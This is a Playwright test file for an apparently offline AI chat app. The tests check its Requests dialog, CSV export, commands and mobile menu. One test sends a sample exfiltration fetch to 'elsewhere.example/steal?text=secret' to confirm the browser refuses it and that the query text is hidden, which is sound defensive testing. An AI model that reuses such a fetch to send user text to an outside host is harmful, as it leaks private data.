import type { Page } from '@playwright/test';
import { expect, test } from './clinic-test.ts';
import { keptForOffline } from './test.ts';

/** Opens the page of requests and shows all its days. */
async function openRequests(page: Page) {
  await page.getByRole('button', { name: 'Menu' }).click();
  await page.getByRole('menuitem', { name: 'Requests…' }).click();
  return page.getByRole('dialog', { name: 'Requests' });
}

test('what was really asked of the server is listed, and no other site', async ({
  clinic,
  page,
  site,
}) => {
  await keptForOffline(page);
  await page.reload();
  await clinic.isReady();
  await clinic.askAndWait('Who hears of this?');
  await page.waitForTimeout(1500); // what was counted last is written

  const dialog = await openRequests(page);
  await expect(dialog).toContainText(`All of them went to ${site.url.slice(0, -1)}`);
  const rows = dialog
    .getByRole('row')
    .filter({ hasNot: page.getByRole('columnheader') });
  const listed = await rows.evaluateAll((all) =>
    all.map((row) => row.querySelectorAll('td')[1]?.textContent ?? ''),
  );
  const unseen = new Set(['/service-worker.js', '/favicon.ico']);
  const asked = [...new Set(site.requests)].filter((path) => !unseen.has(path));
  expect(asked).toContain('/checkpoints/clinic-mini/layers-00.bin');
  expect(listed.toSorted()).toEqual(asked.toSorted());
  expect(await dialog.textContent()).not.toContain('hears');
});

test('an attempt to reach another site is shown as refused, without its query', async ({
  page,
  site,
}) => {
  await page.goto(site.url);
  await expect(page.getByRole('button', { name: 'Model and device' })).toContainText(
    /CPU|WebGPU/,
    { timeout: 90_000 },
  );
  await page.evaluate(() =>
    fetch('https://elsewhere.example/steal?text=secret').catch(() => {}),
  );
  await page.waitForTimeout(500);
  const dialog = await openRequests(page);

  await expect(dialog).toContainText(
    '1 attempt to reach another site was refused by the browser.',
  );
  const row = dialog.getByRole('row').filter({ hasText: 'Refused' });
  await expect(row).toContainText('https://elsewhere.example/steal');
  await expect(dialog).not.toContainText('secret');
});

test('the record is saved as CSV', async ({ clinic, page }) => {
  await clinic.isReady();
  const dialog = await openRequests(page);
  const waiting = page.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Save as CSV' }).click();
  const saved = await waiting;

  expect(saved.suggestedFilename()).toBe('pulsemind-requests.csv');
});

test('exporting and storage are commands too', async ({ clinic, page }) => {
  await clinic.askAndWait('What is exported?');
  await clinic.message.fill('/export');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('dialog', { name: /^Export/ })).toBeVisible();
  await page.keyboard.press('Escape');

  await page.keyboard.press('Control+k');
  await page.keyboard.type('storage');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('dialog', { name: 'Storage and health' })).toBeVisible();
});

test('on a phone one menu holds what the header has no room for', async ({
  clinic,
  page,
}) => {
  await page.setViewportSize({ width: 390, height: 800 });
  await clinic.isReady();
  await expect(page.getByRole('button', { name: 'Storage and health' })).toBeHidden();
  const menu = page.getByRole('button', { name: 'Menu' });
  await menu.click();
  await page.getByRole('menuitem', { name: 'Storage and health' }).click();
  await expect(page.getByRole('dialog', { name: 'Storage and health' })).toBeVisible();
  await page.keyboard.press('Escape');

  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(menu).toBeFocused();
});
